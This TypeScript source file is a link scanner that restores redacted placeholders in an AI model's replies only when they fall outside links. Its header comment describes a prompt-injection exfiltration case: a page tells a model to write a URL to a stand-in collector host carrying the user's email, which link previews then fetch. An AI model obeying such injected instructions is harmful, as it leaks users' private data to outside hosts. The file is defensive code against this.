/**
 * Placeholders inside a link are not put back into a reply. A link to another host carries what
 * it holds there, and a chat platform fetches the link for its preview (a markdown client fetches
 * an image at once): a model, told by a page it read, that writes
 * `https://collector.example/?e=[EMAIL_1]` would otherwise have the user's own address sent to
 * that host, with no click. What counts as a link fails closed: anything a renderer, a browser
 * or a platform would turn into a URL it fetches (protocol-relative `//host/`, `https:/host`,
 * `https:\\host`, a bare `host.com/?`, a markdown target with spaces, an HTML attribute).
 *
 * The detection is one forward pass over the text with a few counters, not a regular expression
 * run back from each placeholder: a hostile reply (a megabyte of `a-a-…` or `1.1.…` with a
 * placeholder every few kilobytes) made the backtracking alternatives cost the square of each
 * run, several seconds a reply.
 */

import { PLACEHOLDER } from "./sanitize.ts";

/** How far back a link's start is looked for; a longer run of non-space text counts as a link. */
const LINK_REACH = 4096;

/** Whether the UTF-16 unit `c` is one that JavaScript's `\s` matches. */
function isSpace(c: number): boolean {
  if (c <= 0x20) return c === 0x20 || (c >= 0x09 && c <= 0x0d);
  if (c < 0xa0) return false;
  return c === 0xa0 || c === 0x1680 || (c >= 0x2000 && c <= 0x200a) || c === 0x2028 ||
    c === 0x2029 || c === 0x202f || c === 0x205f || c === 0x3000 || c === 0xfeff;
}

function isLetter(c: number): boolean {
  return (c >= 0x61 && c <= 0x7a) || (c >= 0x41 && c <= 0x5a);
}

function isDigit(c: number): boolean {
  return c >= 0x30 && c <= 0x39;
}

/** `[a-z0-9-]`: a character of a host name's label. */
function isLabel(c: number): boolean {
  return isLetter(c) || isDigit(c) || c === 0x2d;
}

const SLASH = 0x2f;
const BACKSLASH = 0x5c;
const COLON = 0x3a;
const DOT = 0x2e;

function isSlash(c: number): boolean {
  return c === SLASH || c === BACKSLASH;
}

/** `/`, `\`, `?` or `#`: what ends a host (and its port) in a link. */
function endsHost(c: number): boolean {
  return isSlash(c) || c === 0x3f || c === 0x23;
}

/**
 * Reads a text forward and tells, at each offset it has reached, whether that offset stands
 * inside a link, failing closed: inside a run of non-space characters that holds a URL's start,
 * inside a markdown link's target (`](…`, where `<…>` allows spaces), or inside an HTML tag
 * (`<img src=… alt="…">`). A URL's start in a run is any of: a scheme followed by a slash or a
 * backslash (`https:/x`, `https:\\x` are mended by browsers), a protocol-relative `//` or `\\`,
 * a `www.` name, or a host name or address followed by a path, query or fragment
 * (`collector.com/?e=`, `10.0.0.5:8080/`, `localhost:8080/`), which auto-linkers link bare. A
 * run longer than `LINK_REACH` counts as a link whole. Each character is read once.
 */
class LinkScanner {
  #text: string;
  #at: number;
  // The run of non-space characters the scan is in.
  #runStart: number;
  #linked = false;
  // `[a-z][a-z0-9+.-]*:`: whether the span of scheme characters just read holds a letter, and
  // whether the character just read is a colon that ends such a scheme.
  #schemeLetter = false;
  #schemeColon = false;
  // `(?:[a-z0-9-]+\.)+[a-z][a-z0-9-]*`: the length of the label just read, whether the
  // character just read is a dot after a label, and whether the text read ends a host name.
  #label = 0;
  #dotAfterLabel = false;
  #host = false;
  // `\d{1,3}(?:\.\d{1,3}){3}`: the digits just read, and how many dotted groups lead to them.
  #digits = 0;
  #groups = 0;
  // `:\d+` after a host, an address or a bare label: whether the text read is such a port.
  #portAfterHost = false;
  #portDigits = 0;
  // Markdown targets and HTML tags: the last `](` and whether its target has ended; the last
  // `<` and whether a letter follows it and a `>` has closed it.
  #target = -1;
  #targetEnded = false;
  #tag = -1;
  #tagEnded = false;

  /** A scan of `text` from `from`, where a run is taken to start (nothing before is read). */
  constructor(text: string, from = 0) {
    this.#text = text;
    this.#at = from;
    this.#runStart = from;
  }

  /** Whether `offset` (not before the offsets asked before) stands inside a link. */
  insideAt(offset: number): boolean {
    this.#readTo(offset);
    const limit = Math.max(0, offset - LINK_REACH);
    if (limit > 0 && this.#runStart <= limit) return true;
    if (this.#linked) return true;
    if (this.#target >= limit && !this.#targetEnded) return true;
    return this.#tag >= limit && this.#tag + 1 < offset &&
      isLetter(this.#text.charCodeAt(this.#tag + 1)) && !this.#tagEnded;
  }

  #readTo(offset: number): void {
    const text = this.#text;
    for (; this.#at < offset; this.#at++) {
      const i = this.#at;
      const c = text.charCodeAt(i);
      this.#markup(i, c);
      if (isSpace(c)) {
        this.#newRun(i + 1);
        continue;
      }
      const prevSlash = i > this.#runStart && isSlash(text.charCodeAt(i - 1));
      if (isSlash(c) && (prevSlash || this.#schemeColon)) this.#linked = true;
      if (endsHost(c)) {
        if (this.#host || (this.#groups >= 3 && this.#digits >= 1 && this.#digits <= 3)) {
          this.#linked = true;
        }
        if (this.#portAfterHost && this.#portDigits > 0) this.#linked = true;
      }
      if (c === DOT && this.#www(i)) this.#linked = true;
      this.#step(c);
    }
  }

  /** Whether the dot at `i` ends a `www` that starts the run or follows no label character. */
  #www(i: number): boolean {
    const start = i - 3;
    if (start < this.#runStart || this.#text.slice(start, i).toLowerCase() !== "www") return false;
    return start === this.#runStart || !isLabel(this.#text.charCodeAt(start - 1));
  }

  /** Moves every run counter past the non-space character `c`. */
  #step(c: number): void {
    const label = isLabel(c);
    // Scheme.
    const colonNow = c === COLON && this.#schemeLetter;
    if (label || c === 0x2b || c === DOT) this.#schemeLetter ||= isLetter(c);
    else this.#schemeLetter = false;
    this.#schemeColon = colonNow;
    // Port: read before the host counters move on, since a colon ends them.
    if (c === COLON) {
      this.#portAfterHost = this.#host || this.#label > 0 ||
        (this.#groups >= 3 && this.#digits >= 1 && this.#digits <= 3);
      this.#portDigits = 0;
    } else if (this.#portAfterHost && isDigit(c)) this.#portDigits++;
    else this.#portAfterHost = false;
    // Host name.
    if (label) {
      if (this.#label === 0) this.#host = this.#dotAfterLabel && isLetter(c);
      this.#label++;
      this.#dotAfterLabel = false;
    } else {
      this.#dotAfterLabel = c === DOT && this.#label > 0;
      this.#label = 0;
      this.#host = false;
    }
    // Dotted address.
    if (isDigit(c)) this.#digits++;
    else if (c === DOT) {
      // The first group may be the tail of a longer number; the others hold one to three.
      this.#groups = this.#digits === 0
        ? 0
        : this.#groups > 0 && this.#digits <= 3
        ? this.#groups + 1
        : 1;
      this.#digits = 0;
    } else {
      this.#groups = 0;
      this.#digits = 0;
    }
  }

  #newRun(start: number): void {
    this.#runStart = start;
    this.#linked = false;
    this.#schemeLetter = this.#schemeColon = false;
    this.#label = 0;
    this.#dotAfterLabel = this.#host = false;
    this.#digits = this.#groups = 0;
    this.#portAfterHost = false;
    this.#portDigits = 0;
  }

  /** Follows markdown targets and HTML tags, which spaces do not end. */
  #markup(i: number, c: number): void {
    if (c === 0x28 && i > 0 && this.#text.charCodeAt(i - 1) === 0x5d) {
      this.#target = i - 1;
      this.#targetEnded = false;
    } else if (this.#target >= 0 && !this.#targetEnded && i >= this.#target + 2) {
      // `<…>` ends at `>`; a bare target at `)`. A renderer lenient about spaces in it still
      // fetches it, so a space does not end it here.
      const angled = this.#text.charCodeAt(this.#target + 2) === 0x3c;
      if (c === (angled ? 0x3e : 0x29)) this.#targetEnded = true;
    }
    if (c === 0x3c) {
      this.#tag = i;
      this.#tagEnded = false;
    } else if (c === 0x3e && this.#tag >= 0) this.#tagEnded = true;
  }
}

/**
 * Whether `offset` of `text` stands inside a link, failing closed: inside a run of non-space
 * characters that holds a URL's start, inside a markdown link's target (`](…`, where `<…>`
 * allows spaces), or inside an HTML tag (`<img src=… alt="…">`). Reads at most `LINK_REACH`
 * characters before `offset`.
 */
export function insideLink(text: string, offset: number): boolean {
  return new LinkScanner(text, Math.max(0, offset - LINK_REACH)).insideAt(offset);
}

/**
 * {@linkcode insideLink} for many offsets of one text, asked in ascending order: one forward
 * pass over the text for all of them, where asking each alone rereads up to `LINK_REACH`
 * characters before it.
 */
export function linksOf(text: string): (offset: number) => boolean {
  const scanner = new LinkScanner(text);
  return (offset) => scanner.insideAt(offset);
}

/**
 * `text` with each placeholder outside a link put back by `restore` (a vault's). `before` is the
 * text that came just before it in the same reply (a stream's earlier chunks), where a link that
 * `text` continues may have begun. One pass over the text, however many placeholders it holds.
 *
 * @example
 * ```ts
 * import { restoreOutsideLinks } from "./restore_links.ts";
 * const restore = (p: string) => p === "[EMAIL_1]" ? "ada@example.org" : p;
 * console.log(restoreOutsideLinks("mail [EMAIL_1] or see https://x.example/?e=[EMAIL_1]", restore));
 * // "mail ada@example.org or see https://x.example/?e=[EMAIL_1]"
 * ```
 */
export function restoreOutsideLinks(
  text: string,
  restore: (placeholder: string) => string,
  before = "",
): string {
  const context = before.slice(-LINK_REACH);
  const scanner = new LinkScanner(context + text);
  // `replace` calls back in the order of the offsets, so the scan only moves forward.
  return text.replace(
    PLACEHOLDER,
    (placeholder, offset: number) =>
      scanner.insideAt(context.length + offset) ? placeholder : restore(placeholder),
  );
}
